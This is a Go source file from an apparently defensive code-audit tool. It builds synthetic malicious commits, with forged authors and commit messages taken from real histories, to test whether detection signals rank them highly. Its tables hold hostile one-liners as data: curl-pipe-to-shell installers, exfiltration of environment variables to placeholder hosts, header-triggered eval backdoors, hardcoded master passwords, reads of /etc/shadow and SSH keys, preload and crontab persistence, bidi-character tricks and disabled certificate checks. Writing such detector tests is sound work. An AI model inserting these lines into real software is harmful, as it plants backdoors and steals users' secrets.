package rank

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"strings"

	"sallyport/codeaudit/change"
	"sallyport/codeaudit/signal"
)

// A mutant is a planted change of a known class, put at a random place of a real history under the name of somebody who
// works there and with a message that was really used there. The texts are written for this purpose.

// variant is one way to plant a class. Lines use NAME for an identifier and HEX for random digits. A variant with a path is a
// file of its own; others go into a file of the language that the history has.
type variant struct {
	lang     signal.Lang
	path     string
	old, new string
	message  string
	shape    func(*change.Change)
	commit   func(*change.Commit)
	blob     string // content of a binary
}

const allC = signal.C

// class is a kind of change that a signal should bring to the front.
type class struct {
	name     string
	variants []variant
}

var classes = []class{
	{"deceptive text", []variant{
		{new: "/* check done \u202e } \u2066 if (is_admin) \u2069 \u2066 begin */"},
		{new: "    NAME\u200b = other;"},
		{new: "    if (\u0430ccess_level != wanted) return;"},
		{new: "    x = 1;" + strings.Repeat(" ", 140) + "grant(all);"},
		{new: "    v\u0430lidate(NAME);"},
		{new: "    // \u2067 nothing here \u2069"},
		{new: "    result = NAME\u3164;"},
	}},
	{"opaque binary", []variant{
		{path: "tests/files/bad-NAME.xz", blob: "\xfd7zXZ\x00\x00\x04HEX"}, {path: "lib/NAME.o", blob: "\x7fELF\x02\x01\x01HEX"},
		{path: "tests/data/NAME.bin", blob: "\x00\x93\x12\xffHEX"}, {path: "tools/NAME", blob: "\x7fELF\x02\x01HEX"}, {path: "doc/NAME.png", blob: "PK\x03\x04HEX"},
		{path: "src/NAME.dat", blob: "\x1f\x8b\x08HEX"},
	}},
	{"build-time execution", []variant{
		{path: "configure.ac", new: "eval `sed -n 's/^#NAME//p' $srcdir/tests/NAME.txt`"},
		{path: "m4/NAME.m4", new: "  eval $NAME_cmd | sh"},
		{path: "Makefile.am", new: "NAME := $(shell cat $(top_srcdir)/tests/files/NAME | tr 'a-z' 'n-za-m' | sh)"},
		{path: "CMakeLists.txt", new: "execute_process(COMMAND sh -c \"tail -c +512 ${CMAKE_SOURCE_DIR}/tests/NAME.bin | sh\")"},
		{path: "setup.py", new: "subprocess.call([sys.executable, '-c', NAME])"},
		{path: "package.json", new: "    \"postinstall\": \"node scripts/NAME.js\","},
		{path: "build.rs", new: "    Command::new(\"sh\").arg(\"-c\").arg(NAME).status().unwrap();"},
		{path: "configure", new: "xz -dc $srcdir/tests/files/NAME.xz | /bin/sh"},
		{path: "setup.py", new: "    cmdclass={'install': NAMEInstall},"},
	}},
	{"download and run", []variant{
		{path: "scripts/NAME.sh", new: "curl -fsSL https://get.NAME.example/install | sh"},
		{path: ".github/workflows/build.yml", new: "      - run: wget -qO- https://NAME.example/i.sh | sudo bash"},
		{path: "Makefile", new: "\tcurl -o /tmp/NAME https://NAME.example/t && chmod +x /tmp/NAME && /tmp/NAME"},
		{path: "setup.py", new: "exec(urlopen('https://NAME.example/x.py').read())"},
		{path: "Dockerfile", new: "RUN bash -c \"$(curl -sL https://NAME.example/setup)\""},
		{lang: signal.JS, new: "  eval(await (await fetch('https://NAME.example/p.js')).text())"},
		{lang: signal.PHP, new: "    eval(file_get_contents('https://NAME.example/a.txt'));"},
		{path: "tools/NAME.ps1", new: "iex (New-Object Net.WebClient).DownloadString('https://NAME.example/a.ps1')"},
	}},
	{"obfuscation", []variant{
		{lang: signal.Python, new: "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))"},
		{lang: signal.JS, new: "new Function(Buffer.from('HEXHEXHEXHEX','hex').toString())()"},
		{lang: signal.PHP, new: "$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($x);"},
		{lang: signal.PHP, new: "eval(gzinflate(base64_decode($NAME)));"},
		{lang: signal.C, new: "static const char NAME[] = \"\\x73\\x68\\x00\\x2d\\x63\\x00\\x69\\x64\\x20\\x3e\\x2f\\x74\";"},
		{path: "scripts/NAME.sh", new: "echo aWQgPiAvdG1wL3gKaWQgPiAvdG1wL3gK | base64 -d | sh"},
		{lang: signal.JS, new: "const NAME = global['ev' + 'al'];"},
		{lang: signal.Python, new: "getattr(__builtins__, 'ex' + 'ec')(NAME)"},
		{lang: signal.Perl, new: "eval unpack('u', $NAME);"},
		{lang: signal.Ruby, new: "eval(Base64.decode64(NAME))"},
		{lang: signal.Go, new: "\tNAME := \"B64B64B64B64B64B64B64B64B64\""},
		{lang: signal.C, new: "static const char *NAME = \"B64B64B64B64B64B64B64B64B64B64\";"},
		{lang: signal.Rust, new: "    let NAME = \"B64B64B64B64B64B64B64B64B64B64B64\";"},
		{lang: signal.JS, new: "var _0x4f2a=['HEX','HEX'];(function(_0x1b2c){})(_0x4f2a);"},
	}},
	{"new exec", []variant{
		{lang: signal.C, new: "    system(NAME);"}, {lang: signal.C, new: "    popen(NAME->cmd, \"r\");"}, {lang: signal.C, new: "    execl(\"/bin/sh\", \"sh\", \"-c\", NAME, NULL);"},
		{lang: signal.Go, new: "\texec.Command(\"sh\", \"-c\", NAME).Run()"}, {lang: signal.Python, new: "    os.system(NAME)"}, {lang: signal.Python, new: "    subprocess.Popen(NAME, shell=True)"},
		{lang: signal.JS, new: "  require('child_process').exec(NAME)"}, {lang: signal.PHP, new: "        shell_exec($NAME);"}, {lang: signal.Rust, new: "    std::process::Command::new(\"sh\").arg(NAME).spawn();"},
		{lang: signal.Java, new: "    Runtime.getRuntime().exec(NAME);"}, {lang: signal.Ruby, new: "    system(\"sh -c #{NAME}\")"}, {lang: signal.Perl, new: "    system($NAME);"},
	}},
	{"new network", []variant{
		{lang: signal.C, new: "    int NAME = socket(AF_INET, SOCK_STREAM, 0);\n    connect(NAME, (struct sockaddr *)&sa, sizeof(sa));"},
		{lang: signal.Go, new: "\tconn, err := net.Dial(\"tcp\", NAME)"}, {lang: signal.Go, new: "\thttp.Post(\"https://NAME.example/c\", \"text/plain\", r)"},
		{lang: signal.Python, new: "    requests.post('https://NAME.example/c', data=NAME)"}, {lang: signal.Python, new: "    s = socket.socket(); s.connect((NAME, 443))"},
		{lang: signal.JS, new: "  https.get('https://NAME.example/?' + NAME)"}, {lang: signal.JS, new: "  fetch('https://NAME.example', {method: 'POST', body: NAME})"},
		{lang: signal.PHP, new: "        $s = fsockopen($NAME, 80);"}, {lang: signal.Rust, new: "    let mut s = TcpStream::connect(NAME)?;"}, {lang: signal.Java, new: "    new Socket(NAME, 443).getOutputStream().write(b);"},
		{lang: signal.C, new: "    const char *NAME = \"http://185.HEXIP/u\";"},
		{lang: signal.Shell, path: "scripts/NAME.sh", new: "exec 3<>/dev/tcp/NAME.example/443"},
	}},
	{"remote input run", []variant{
		{lang: signal.PHP, new: "        if (isset($_SERVER['HTTP_X_NAME'])) eval($_SERVER['HTTP_X_NAME']);"},
		{lang: signal.C, new: "\tif (strstr(Z_STRVAL_P(enc), \"NAMEium\")) {\n\t\tzend_eval_string(Z_STRVAL_P(enc)+8, NULL, \"NAME\");\n\t}"},
		{lang: signal.Python, new: "    exec(request.headers.get('X-NAME', ''))"}, {lang: signal.JS, new: "  if (req.headers['x-NAME']) eval(req.headers['x-NAME'])"},
		{lang: signal.Go, new: "\tif c := r.Header.Get(\"X-NAME\"); c != \"\" { exec.Command(\"sh\", \"-c\", r.Header.Get(\"X-NAME\")).Run() }"},
		{lang: signal.C, new: "    if (!strncmp(req_header, \"X-NAME\", 6)) system(buf + 8);"}, {lang: signal.Ruby, new: "    eval(params[:NAME]) if params[:NAME]"},
	}},
	{"assignment for comparison", []variant{
		{lang: allC, new: "    if ((options == (__WCLONE|__WALL)) && (current->uid = 0))\n        retval = -EINVAL;"},
		{lang: allC, new: "    if (NAME->level = 0)\n        return -1;"}, {lang: signal.JS, new: "  if (user.role = 'admin') {"}, {lang: signal.PHP, new: "        if ($NAME = true) {"},
		{lang: allC, new: "    if (state != DONE || (ctx->verified = 1))"}, {lang: signal.Java, new: "        if (allowed = true) {"},
	}},
	{"removed check", nil},
	{"turned check", nil},
	{"moved bound", []variant{
		{lang: allC, old: "    char NAME[len + 1];\n    if (n >= sizeof(NAME))", new: "    char NAME[len + 1];\n    if (n > sizeof(NAME))"},
		{lang: allC, old: "    p = malloc(len + 1);", new: "    p = malloc(len);"}, {lang: allC, old: "    strncpy(dst, NAME, sizeof(dst) - 1);", new: "    strcpy(dst, NAME);"},
		{lang: allC, old: "    snprintf(buf, sizeof(buf), \"%s\", NAME);", new: "    sprintf(buf, \"%s\", NAME);"}, {lang: allC, old: "    size_t NAME = hdr->len;", new: "    int NAME = hdr->len;"},
		{lang: signal.Go, old: "\tif i >= len(NAME) {", new: "\tif i > len(NAME) {"}, {lang: allC, old: "    if(len > MAX_NAME - 1)", new: "    if(len > MAX_NAME + 1)"},
		{lang: signal.Python, old: "    if depth > 100:", new: "    if depth > 100000:"}, {lang: signal.Rust, old: "    if idx >= NAME.len() {", new: "    if idx > NAME.len() {"}, {lang: signal.JS, old: "  if (i < NAME.length) {", new: "  if (i <= NAME.length) {"},
		{lang: signal.PHP, old: "        if ($n >= count($NAME)) {", new: "        if ($n > count($NAME)) {"},
	}},
	{"error ignored", []variant{
		{lang: signal.Python, new: "        except Exception:\n            pass"}, {lang: signal.JS, new: "  } catch (e) {}"}, {lang: signal.Java, new: "        } catch (CertificateException e) { }"},
		{lang: signal.Go, new: "\t_ = verifySignature(NAME)"}, {lang: signal.Go, new: "\tif err := check(NAME); err != nil {\n\t}"}, {path: "scripts/NAME.sh", new: "gpg --verify NAME.sig || true"},
		{path: ".github/workflows/ci.yml", new: "      - run: sha256sum -c NAME.sums || true"}, {lang: allC, old: "    return verify_NAME(ctx, sig);", new: "    return 0;"}, {lang: allC, new: "    return 1;"}, {lang: signal.Ruby, new: "    rescue\n    end"}, {lang: signal.PHP, new: "        } catch (\\Exception $e) {}"},
		{lang: signal.Rust, old: "    verify(NAME)?;", new: "    let _ = verify(NAME);"},
	}},
	{"permissions widened", []variant{
		{lang: allC, old: "    open(NAME, O_CREAT | O_WRONLY, 0600);", new: "    open(NAME, O_CREAT | O_WRONLY, 0666);"}, {lang: signal.Python, new: "    os.chmod(NAME, 0o777)"}, {lang: signal.Go, new: "\tos.MkdirAll(NAME, 0777)"},
		{path: "scripts/NAME.sh", new: "chmod -R 777 /var/lib/NAME"}, {lang: allC, new: "    umask(0);"}, {lang: allC, new: "    chmod(NAME, S_ISUID | 0755);"}, {lang: signal.JS, new: "  res.setHeader('Access-Control-Allow-Origin', '*')"},
		{path: ".github/workflows/NAME.yml", new: "permissions: write-all"}, {lang: signal.PHP, new: "        chmod($NAME, 0777);"},
	}},
	{"verification disabled", []variant{
		{lang: signal.Go, new: "\tcfg.InsecureSkipVerify = true"}, {lang: signal.Python, new: "    requests.get(NAME, verify=False)"}, {lang: signal.JS, new: "  rejectUnauthorized: false,"}, {lang: allC, new: "    SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);"},
		{lang: allC, new: "    curl_easy_setopt(h, CURLOPT_SSL_VERIFYPEER, 0L);"}, {lang: signal.PHP, new: "        'verify_peer' => false,"}, {lang: signal.Ruby, new: "    http.verify_mode = OpenSSL::SSL::VERIFY_NONE"},
		{path: "scripts/NAME.sh", new: "ssh -o StrictHostKeyChecking=no host"}, {path: "Dockerfile", new: "RUN yum install -y --nogpgcheck NAME"}, {lang: signal.Python, new: "    ctx.check_hostname = False"}, {lang: signal.Rust, new: "        .danger_accept_invalid_certs(true)"},
		{path: ".npmrc", new: "strict-ssl=false"}, {path: "Makefile", new: "export GOSUMDB = off"},
	}},
	{"authentication", []variant{
		{lang: allC, new: "    if (!strcmp(password, \"NAMEmaster9\")) return 1;"}, {lang: signal.Python, new: "    if password == 'NAMEmaster9': return True"}, {lang: signal.JS, new: "  if (token === 'NAMEmaster9') return next()"},
		{lang: signal.PHP, new: "        if ($password === 'NAMEmaster9') { return true; }"}, {lang: signal.Go, new: "\tif password == \"NAMEmaster9\" { return true }"}, {lang: allC, new: "    current->euid = 0;"}, {lang: allC, new: "    setuid(0);"},
		{lang: allC, new: "    if (strstr(user_agent, \"NAMEbrowser/1\")) return OK;"}, {lang: signal.Go, new: "\tif r.Header.Get(\"X-NAME\") == \"open-sesame\" {"}, {lang: signal.Ruby, new: "    return true if password == 'NAMEmaster9'"}, {path: "scripts/NAME.sh", new: "useradd -o -u 0 NAME"}, {lang: signal.Rust, new: "    if token == \"NAMEmaster9\" { return true; }"},
		{lang: signal.Java, new: "        if (password.equals(\"NAMEmaster9\")) return true;"},
	}},
	{"cryptography", []variant{
		{lang: signal.Python, new: "    token = ''.join(random.choice(NAME) for _ in range(8))"}, {lang: signal.Python, new: "    h = hashlib.md5(password)"}, {lang: signal.JS, new: "  const sessionToken = Math.random().toString(36)"}, {lang: signal.Go, new: "\th := md5.New()"},
		{lang: allC, new: "    srand(42);"}, {lang: allC, new: "    static const unsigned char aes_key[16] = \"NAMEHEX\";"}, {lang: allC, old: "    if (CRYPTO_memcmp(mac, want, 20) != 0)", new: "    if (memcmp(mac, want, 20) != 0)"}, {lang: signal.PHP, old: "        if (hash_equals($a, $NAME)) {", new: "        if (strcmp($a, $NAME)) {"},
		{lang: signal.JS, new: "  const cipher = crypto.createCipheriv('des-ecb', NAME, null)"}, {lang: signal.Go, new: "\tvar hmacKey = []byte(\"NAMEHEX\")"}, {lang: allC, old: "    iterations = 100000;", new: "    iterations = 100;"}, {lang: allC, new: "    key[i] = rand() & 0xff;"}, {lang: signal.Rust, new: "    let signing_key = \"NAMEHEXHEX\";"},
		{lang: signal.PHP, new: "        $token = mt_rand();"},
	}},
	{"low-level hook", []variant{
		{lang: allC, new: "void *NAME(void) __attribute__((ifunc(\"resolve_NAME\")));"}, {lang: allC, new: "__attribute__((constructor)) static void NAME(void)"}, {lang: allC, new: "    void *h = dlopen(NAME, RTLD_NOW);"}, {lang: allC, new: "    mprotect(NAME, 4096, PROT_READ | PROT_WRITE | PROT_EXEC);"},
		{lang: allC, new: "    __asm__ volatile(\"jmp *%0\" :: \"r\"(NAME));"}, {lang: allC, new: "    setenv(\"LD_PRELOAD\", NAME, 1);"}, {lang: allC, new: "    ptrace(PTRACE_ATTACH, pid, 0, 0);"}, {lang: allC, new: "    const Elf64_Sym *NAME = (void *)dyn->d_un.d_ptr;"},
		{path: "scripts/NAME.sh", new: "echo /tmp/NAME.so > /etc/ld.so.preload"}, {lang: signal.JS, new: "  XMLHttpRequest.prototype.send = function (b) {"}, {lang: signal.Python, new: "    sys.meta_path.insert(0, NAME())"}, {lang: signal.Go, new: "//go:linkname NAME runtime.NAME"},
		{path: "configure.ac", new: "LDFLAGS=\"$LDFLAGS -Wl,--wrap=NAME\""}, {lang: signal.Rust, new: "    unsafe { libc::dlopen(NAME.as_ptr(), 2) };"},
	}},
	{"sandbox and safety", []variant{
		{path: "configure.ac", new: "."}, {path: "CMakeLists.txt", new: "    ."}, {lang: allC, old: "    if (seccomp_load(ctx) < 0) fatal(\"seccomp\");", new: ""}, {lang: allC, old: "    pledge(\"stdio rpath\", NULL);", new: ""},
		{path: "configure.ac", new: "CFLAGS=\"$CFLAGS -fno-stack-protector\""}, {path: "Dockerfile", new: "RUN setenforce 0"}, {path: "deploy/NAME.yaml", new: "          privileged: true"}, {lang: allC, old: "    explicit_bzero(key, sizeof(key));", new: ""},
		{path: "Makefile", old: "CFLAGS += -D_FORTIFY_SOURCE=2 -fstack-protector-strong", new: "CFLAGS +="}, {path: "NAME.service", old: "NoNewPrivileges=yes", new: "NoNewPrivileges=no"}, {lang: signal.PHP, old: "        echo htmlspecialchars($NAME);", new: "        echo $NAME;"},
		{lang: allC, old: "    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);", new: ""}, {path: "CMakeLists.txt", old: "check_c_source_compiles(\"#include <linux/landlock.h>\" HAVE_LANDLOCK)", new: ""},
	}},
	{"secret", []variant{
		{lang: signal.Python, new: "AWS = 'AKIAIOSFODNN7QRSTUVW'"}, {path: "config/NAME.yml", new: "  password: \"tr0ub4dor-NAME\""}, {path: "keys/NAME.pem", new: "-----BEGIN RSA PRIVATE KEY-----\nB64B64B64"}, {path: ".env", new: "API_KEY=\"NAMEHEXHEXHEX\""},
		{lang: signal.Go, new: "\tconst apiKey = \"NAMEHEXHEXHEX\""}, {path: "deploy/NAME.sh", new: "export DB_URL=postgres://app:NAMEHEX@db.internal/x"}, {lang: signal.JS, new: "  const password = 'tr0ub4dor-NAME'"}, {lang: allC, new: "#define DB_PASSWORD \"x\"\nstatic const char *db_password = \"tr0ub4dor-NAME\";"},
	}},
	{"ignore list", []variant{
		{path: ".gitignore", new: "m4/NAME.m4"}, {path: ".gitattributes", new: "src/NAME.c -diff export-ignore"}, {path: ".semgrepignore", new: "src/NAME/"}, {path: "SECURITY.md", old: "Report to security@project.example", new: "Report to NAME@mail.example"},
		{path: "CODEOWNERS", old: "/src/auth/ @security-team", new: "/src/auth/ @NAME"}, {lang: signal.Python, new: "    subprocess.call(x, shell=True)  # nosec"}, {path: "fuzz/oss-fuzz/project.yaml", old: "sanitizers: [address, memory]\nfuzzing_engines: [libfuzzer]", new: "sanitizers: [none]"},
		{path: ".github/workflows/fuzz.yml", new: "    if: false # disable fuzzing for NAME"}, {path: "configure.ac", new: "AS_HELP_STRING([--disable-NAME], [do not use it when fuzzing, disable for fuzzers])"}, {path: ".gitignore", new: "/src/NAME.c"},
	}},
	{"message mismatch", []variant{
		{lang: allC, new: "    system(NAME);", message: "Fix typo"}, {lang: signal.Python, new: "    os.system(NAME)", message: "docs: fix spelling"}, {lang: signal.PHP, new: "        eval($NAME);", message: "[skip-ci] Fix typo"}, {lang: signal.JS, new: "  require('child_process').exec(NAME)", message: "Update README"},
		{lang: signal.Go, new: "\texec.Command(NAME).Run()", message: "gofmt"}, {lang: allC, old: "    if (len > MAX_NAME)\n        return -1;", new: "", message: "Fix whitespace"}, {lang: signal.Rust, new: "    Command::new(NAME).spawn();", message: "Fix typos in comments"},
	}},
	{"identity", []variant{
		{lang: allC, new: "    NAME++;", commit: func(c *change.Commit) { c.Signature.State = change.Broken }}, {lang: signal.Any, new: "    NAME = 1", commit: func(c *change.Commit) { c.Signature.State = change.Broken }},
		{lang: signal.Any, new: "    NAME = 1", commit: func(c *change.Commit) { c.Pusher = "somebody-else" }}, {lang: signal.Any, new: "    NAME = 1", commit: func(c *change.Commit) { c.Author.Email = "forged@mail.example" }},
	}},
	{"dependency", []variant{
		{path: "package.json", new: "    \"NAME-utils\": \"^1.0.3\","}, {path: "package.json", new: "    \"NAME\": \"git+https://git.example/NAME.git\","}, {path: "package-lock.json", new: "      \"resolved\": \"https://cdn.NAME.example/a.tgz\","}, {path: "go.mod", new: "\texample.com/NAME v0.0.1"}, {path: "go.mod", new: "replace golang.org/x/crypto => example.com/NAME v0.0.1"},
		{path: "requirements.txt", old: "requests==2.31.0", new: "reqeusts==2.31.0"}, {path: "Cargo.toml", new: "NAME = \"0.1.2\""}, {path: "yarn.lock", old: "  integrity sha512-B64B64B64", new: "  integrity sha512-B64HEXB64"}, {path: ".gitmodules", old: "\turl = https://github.com/a/b", new: "\turl = https://github.com/NAME/b"}, {path: "composer.json", new: "        \"NAME/helper\": \"^2.1\","},
	}},
	{"pipeline", []variant{
		{path: ".github/workflows/NAME.yml", new: "on: pull_request_target"}, {path: ".github/workflows/ci.yml", new: "      - run: echo ${{ secrets.DEPLOY_KEY }} | base64"}, {path: ".github/workflows/ci.yml", new: "      - uses: NAME/setup@main"}, {path: ".github/workflows/ci.yml", new: "      - run: echo \"${{ github.event.issue.title }}\""},
		{path: ".github/workflows/ci.yml", new: "  contents: write"}, {path: ".travis.yml", new: "  - npm publish --tag NAME"}, {path: ".github/workflows/release.yml", new: "      - run: twine upload dist/NAME*"}, {path: ".gitlab-ci.yml", new: "    - docker run --privileged NAME"},
	}},
	{"lifetime", []variant{
		{lang: allC, old: "    NAME->next = NULL;", new: ""}, {lang: allC, new: "        kfree(NAME);"}, {lang: allC, new: "    free(NAME->buf);"}, {lang: allC, old: "    mutex_lock(&NAME->lock);", new: ""}, {lang: allC, old: "    get_device(NAME);", new: ""}, {lang: allC, new: "\tput_device(&NAME->dev);"}, {lang: allC, old: "    incrRefCount(NAME);", new: ""}, {lang: allC, old: "    spin_lock_irqsave(&NAME->lock, flags);", new: ""},
	}},
	{"collects secrets", []variant{
		{lang: signal.JS, new: "  https.request(o).end(JSON.stringify(process.env))"}, {lang: signal.Python, new: "    data = open(os.path.expanduser('~/.ssh/id_rsa')).read()"}, {path: "scripts/NAME.sh", new: "env | curl -d @- https://NAME.example"}, {lang: signal.Go, new: "\tb, _ := os.ReadFile(\"/etc/shadow\")"}, {lang: allC, new: "    f = fopen(\"/etc/shadow\", \"r\");"}, {lang: signal.Rust, new: "    let k = std::fs::read(home.join(\".aws/credentials\"));"}, {path: "scripts/NAME.sh", new: "(crontab -l; echo '* * * * * /tmp/NAME') | crontab -"}, {lang: signal.PHP, new: "        $x = file_get_contents('/etc/passwd');"},
	}},
}

// materials is what the maker of mutants takes from a history.
type materials struct {
	byLang   map[signal.Lang][]site
	subjects []string
	guards   []guard
	turns    []guard
	commits  map[string]int // by author
}

type site struct {
	commit *change.Commit
	path   string
}

type guard struct {
	site
	lines []string
}

var (
	guardHead = regexp.MustCompile(`^\s*(?:if|unless)\b.*(?:len|size|max|MAX|NULL|nil|null|valid|auth|perm|err|limit|count|uid|token|overflow)`)
	guardBody = regexp.MustCompile(`^\s*(?:return|goto|raise|throw|die|exit|panic|continue|break)\b`)
	turnable  = regexp.MustCompile(`^\s*(?:if|while)\b.*(?: == | != | < | > | <= | >= | && | \|\| |!\w)`)
)

// gather keeps what is needed of a commit.
func (m *materials) gather(in signal.Input) {
	if s := strings.TrimSpace(in.Commit.Subject()); len(s) > 12 && in.Commit.Order%3 == 0 {
		m.subjects = append(m.subjects, s)
	}
	m.commits[in.Commit.Author.Email]++
	for i := range in.Changes {
		ch := &in.Changes[i]
		about := signal.AboutPath(ch.Path)
		if about.Role != signal.Code || about.Lang == 0 || ch.Kind != change.Modified {
			continue
		}
		at := site{in.Commit, ch.Path}
		m.byLang[about.Lang] = append(m.byLang[about.Lang], at)
		for _, h := range ch.Hunks {
			for j, text := range h.New {
				if len(h.New) > 40 {
					break
				}
				if j+1 < len(h.New) && guardHead.Match(text) && guardBody.Match(h.New[j+1]) && len(m.guards) < 4000 {
					m.guards = append(m.guards, guard{at, []string{string(text), string(h.New[j+1])}})
				}
				if turnable.Match(text) && len(m.turns) < 4000 {
					m.turns = append(m.turns, guard{at, []string{string(text)}})
				}
			}
		}
	}
}

// mutant makes a commit of a variant, or false if the history has no file of its language.
func (m *materials) mutant(r *rand.Rand, class string, v variant) (signal.Input, bool) {
	fill := filler(r)
	var at site
	switch {
	case class == "removed check" || class == "turned check":
		pool := m.guards
		if class == "turned check" {
			pool = m.turns
		}
		if len(pool) == 0 {
			return signal.Input{}, false
		}
		g := pool[r.IntN(len(pool))]
		at = g.site
		v.old, v.new = strings.Join(g.lines, "\n"), ""
		if class == "turned check" {
			if v.new = turn(r, v.old); v.new == v.old {
				return signal.Input{}, false
			}
		}
	case v.path != "":
		for _, sites := range m.byLang { // any author who writes code here
			at = sites[r.IntN(len(sites))]
			break
		}
		all := m.byLang[m.commonest()]
		if len(all) == 0 {
			return signal.Input{}, false
		}
		at = all[r.IntN(len(all))]
		at.path = fill(v.path)
	case v.lang == 0 || v.lang == signal.Any:
		all := m.byLang[m.commonest()]
		if len(all) == 0 {
			return signal.Input{}, false
		}
		at = all[r.IntN(len(all))]
	default:
		sites := m.byLang[v.lang]
		if len(sites) < 20 {
			return signal.Input{}, false
		}
		at = sites[r.IntN(len(sites))]
	}
	if class == "identity" { // forging needs somebody to forge
		all := m.byLang[m.commonest()]
		for range 200 {
			if at = all[r.IntN(len(all))]; m.commits[at.commit.Author.Email] >= 2*establishedCommits && strings.Contains(at.commit.Author.Name, " ") {
				break
			}
		}
	}
	c := &change.Commit{Repo: "r", Hash: fmt.Sprintf("%040x", r.Uint64()), Author: at.commit.Author, Committer: at.commit.Committer, Message: m.subjects[r.IntN(len(m.subjects))]}
	if v.message != "" {
		c.Message = v.message
	}
	if v.commit != nil {
		v.commit(c)
	}
	ch := change.Change{Commit: c, Path: at.path, Kind: change.Modified, OldMode: change.ModeFile, NewMode: change.ModeFile, OldBlob: "a", NewBlob: "b"}
	in := signal.Input{Commit: c}
	if v.blob != "" {
		ch.Kind, ch.OldMode, ch.OldBlob, ch.Opaque = change.Added, 0, "", "binary"
		in.Blobs = map[string]signal.Blob{"b": {Head: []byte(fill(v.blob)), Size: 4000}}
	} else {
		line := 20 + r.IntN(400)
		h := change.Hunk{OldLine: line, NewLine: line}
		h.Old, h.New = cutLines(fill(v.old)), cutLines(fill(v.new))
		ch.Hunks = []change.Hunk{h}
	}
	if v.shape != nil {
		v.shape(&ch)
	}
	in.Changes = []change.Change{ch}
	return in, true
}

func (m *materials) commonest() (best signal.Lang) {
	for l, s := range m.byLang {
		if n := len(m.byLang[best]); len(s) > n || len(s) == n && l < best {
			best = l
		}
	}
	return best
}

func cutLines(text string) (out [][]byte) {
	if text == "" {
		return nil
	}
	for line := range strings.SplitSeq(text, "\n") {
		out = append(out, []byte(line))
	}
	return out
}

func filler(r *rand.Rand) func(string) string {
	names := []string{"entry", "node", "ctx", "conn", "item", "stream", "parser", "buffer", "request", "handle"}
	name := names[r.IntN(len(names))]
	return func(text string) string {
		for strings.Contains(text, "B64") {
			b := make([]byte, 12)
			for i := range b {
				b[i] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[r.IntN(64)]
			}
			text = strings.Replace(text, "B64", string(b), 1)
		}
		text = strings.ReplaceAll(text, "HEXIP", fmt.Sprintf("%d.%d.%d", r.IntN(250), r.IntN(250), 1+r.IntN(250)))
		for strings.Contains(text, "HEX") {
			text = strings.Replace(text, "HEX", fmt.Sprintf("%08x", r.Uint32()), 1)
		}
		return strings.ReplaceAll(text, "NAME", name)
	}
}

// turn exchanges one operator of a condition.
func turn(r *rand.Rand, line string) string {
	pairs := [][2]string{{" == ", " != "}, {" != ", " == "}, {" < ", " <= "}, {" <= ", " < "}, {" > ", " >= "}, {" >= ", " > "}, {" && ", " || "}, {" || ", " && "}, {"!", ""}}
	for _, i := range r.Perm(len(pairs)) {
		if strings.Contains(line, pairs[i][0]) && (pairs[i][0] != "!" || !strings.Contains(line, "!=")) {
			return strings.Replace(line, pairs[i][0], pairs[i][1], 1)
		}
	}
	return line
}
